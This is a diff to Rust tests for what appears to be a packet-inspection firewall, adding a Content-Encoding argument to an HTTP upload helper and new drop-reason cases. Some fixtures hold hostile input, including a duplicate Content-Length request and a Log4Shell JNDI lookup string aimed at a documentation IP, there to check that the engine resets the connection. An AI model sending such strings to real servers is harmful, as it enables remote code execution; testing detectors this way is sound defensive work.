@@ -129,8 +129,9 @@ fn syn(client: &str) -> Vec<u8> {
     Connection::new(ends(client, "192.0.2.1:80", &[]), [1, 2]).handshake().swap_remove(0)
 }
 
-fn upload(body: &str) -> Vec<u8> {
-    format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
+fn upload(codings: &str, body: &str) -> Vec<u8> {
+    let head = format!("POST / HTTP/1.1\r\nContent-Encoding: {codings}\r\nContent-Length: {}", body.len());
+    format!("{head}\r\n\r\n{body}").into_bytes()
 }
 
 /// Frames that pass, and one that a cause speaks against.
@@ -198,10 +199,15 @@ fn case(cause: DropReason) -> Case {
             let twice = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab";
             connection.segment(ToServer, DATA, twice)
         }
-        DropReason::ScanOverflow => connection.segment(ToServer, DATA, &upload(&"qz".repeat(160))),
+        DropReason::ContentCap => connection.segment(ToServer, DATA, &upload(&"gzip, ".repeat(5), "body")),
+        DropReason::ContentUnread => {
+            settings.exceptions.set(cause, Exception::Reject);
+            connection.segment(ToServer, DATA, &upload("gzip", "body"))
+        }
+        DropReason::ScanOverflow => connection.segment(ToServer, DATA, &upload("", &"qz".repeat(160))),
         DropReason::BudgetExceeded => {
             settings.packet_steps_max = 100;
-            connection.segment(ToServer, DATA, &upload(&"qz".repeat(30)).repeat(2))
+            connection.segment(ToServer, DATA, &upload("", &"qz".repeat(30)).repeat(2))
         }
         DropReason::OwnerBehind => connection.segment(ToServer, TcpFlags::ACK, b""),
         DropReason::OverlapUnverified => {
@@ -362,12 +368,12 @@ fn both_ends_are_reset_with_the_numbers_that_they_expect() {
             let mut connection = Connection::new(ends(client, server, vlans), [0xffff_ffff, 0xffff_ff80]);
             let mut bench = Bench::new(settings());
             bench.passes(&connection.handshake());
-            bench.passes(&[connection.segment(ToServer, DATA, &upload("harmless"))]);
+            bench.passes(&[connection.segment(ToServer, DATA, &upload("", "harmless"))]);
             if guilty == ToClient {
                 let head = b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n";
                 bench.passes(&[connection.segment(ToClient, DATA, head)]);
             }
-            let payload = if guilty == ToServer { upload("resetword") } else { b"resetword".to_vec() };
+            let payload = if guilty == ToServer { upload("", "resetword") } else { b"resetword".to_vec() };
             let (at, answer) = (connection.sequence(guilty), connection.sequence(guilty.opposite()));
             let frame = connection.segment(guilty, DATA, &payload);
             assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
@@ -406,7 +412,7 @@ fn what_is_blocked_stays_so_in_both_directions() {
         let mut connection = connection();
         let mut bench = Bench::new(settings());
         bench.passes(&connection.handshake());
-        let guilty = connection.segment(ToServer, DATA, &upload(word));
+        let guilty = connection.segment(ToServer, DATA, &upload("", word));
         assert_eq!(bench.judge(&guilty), first);
         assert_eq!(bench.pipeline.resets().to_sender().is_some(), matches!(first, Verdict::Reset(_)));
         let blocked = Verdict::Drop(DropReason::FlowBlocked);
@@ -431,14 +437,14 @@ fn ends_that_were_reset_may_connect_anew() {
     let mut first = connection();
     bench.passes(&first.handshake());
     assert_eq!(
-        bench.judge(&first.segment(ToServer, DATA, &upload("resetword"))),
+        bench.judge(&first.segment(ToServer, DATA, &upload("", "resetword"))),
         Verdict::Reset(DropReason::Rule)
     );
     let mut again = Connection::new(ends("10.0.0.1:40000", "192.0.2.1:80", &[]), [77_000, 88_000]);
     bench.passes(&again.handshake());
-    bench.passes(&[again.segment(ToServer, DATA, &upload("harmless"))]);
+    bench.passes(&[again.segment(ToServer, DATA, &upload("", "harmless"))]);
     assert_eq!(
-        bench.judge(&again.segment(ToServer, DATA, &upload("dropword"))),
+        bench.judge(&again.segment(ToServer, DATA, &upload("", "dropword"))),
         Verdict::Drop(DropReason::Rule)
     );
 }
@@ -451,7 +457,7 @@ fn a_flood_of_alerts_hides_no_reset() {
     // A rule hits a field once, so it takes as many rules as alerts.
     let words: String = (0..FLOOD_RULES).map(|n| format!("floodword{n:03} ")).collect();
     let body = words + "${jndi:ldap://203.0.113.7/a}";
-    let frame = connection.segment(ToServer, DATA, &upload(&body));
+    let frame = connection.segment(ToServer, DATA, &upload("", &body));
     assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
     assert_eq!(bench.told.alerts.len(), HITS_PER_PACKET_MAX);
     assert!(bench.told.alerts.contains(&(LOG4SHELL, true)), "what decides is told");
@@ -469,11 +475,11 @@ fn an_alert_lets_pass_and_monitoring_lets_everything_pass() {
         let mut connection = connection();
         let mut bench = Bench::new(Settings { mode, ..settings() });
         bench.passes(&connection.handshake());
-        bench.passes(&[connection.segment(ToServer, DATA, &upload(word))]);
+        bench.passes(&[connection.segment(ToServer, DATA, &upload("", word))]);
         assert!(
             bench.pipeline.resets().to_sender().is_none() && bench.pipeline.resets().to_receiver().is_none()
         );
-        bench.passes(&[connection.segment(ToServer, DATA, &upload("harmless"))]);
+        bench.passes(&[connection.segment(ToServer, DATA, &upload("", "harmless"))]);
         assert_eq!(bench.told.alerts, [(id, false)]);
         assert!(bench.told.drops.is_empty());
     }
